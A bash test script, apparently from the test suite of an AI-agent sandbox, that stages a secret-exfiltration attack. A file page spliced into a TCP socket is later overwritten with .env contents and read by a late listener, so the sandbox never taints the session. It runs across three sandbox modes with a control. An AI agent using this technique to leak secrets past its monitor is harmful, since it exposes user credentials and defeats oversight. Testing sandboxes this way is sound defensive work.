#!/bin/bash
# A file's page spliced into a TCP connection to an allowed endpoint rides in the skb as
# a reference to the page-cache folio: if the peer reads late, it reads the folio's
# content *then*. The agent sends an ordinary file's page, closes everything and exits;
# the user's tool renames the file to .env and writes the secret in place; the listener
# then reads the secret. Nothing in the sandbox holds the file at the late mark (and in
# the mediated modes nothing looks at all): the session is never tainted.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.9.2
D=$R9/socket-queue-page-in-flight; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H
gcc -O1 -o $W/sockq $D/sockq.c
outside() { # the user's tool: rename draft to .env, then write the secret into it in place
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; [ -e $W/ready ] || return; mv $W/draft $W/.env; sleep 0.5
  printf "SECRET-ENV-$1\n" | dd of=$W/.env conv=notrunc status=none; }
try() { # try MODE NAME [copy]
  local mode=$1 name=$2; shift 2
  printf 'draft-draft-draft-draft-draft\n' > $W/draft; rm -f $W/.env $W/ready
  : > $D/out-$name.txt; python3 $D/listen_late.py $IP $D/out-$name.txt 4 & LPID=$!; sleep 0.5
  outside $name & CPID=$!
  case $mode in
    kopens) CLAWLESS_TRACE_DISCOVERY=1 run $H $W ./sockq $IP draft "$@" 2>&1 | grep -v "^clawless: discovery\|walk";;
    *) runmode $mode $H $W ./sockq $IP draft "$@" 2>&1;;
  esac
  wait $CPID; echo "--- .env now: $(cat $W/.env)"; sleep 4
  verdict $D/out-$name.txt SECRET-ENV-$name; }
for mode in kopens isolated mediated; do
  echo "== attack ($mode): the page rides in the TCP queues, read late by the peer"; try $mode $mode
done
echo "== control (kopens): the same bytes sent as a copy (read + write)"; try kopens control copy
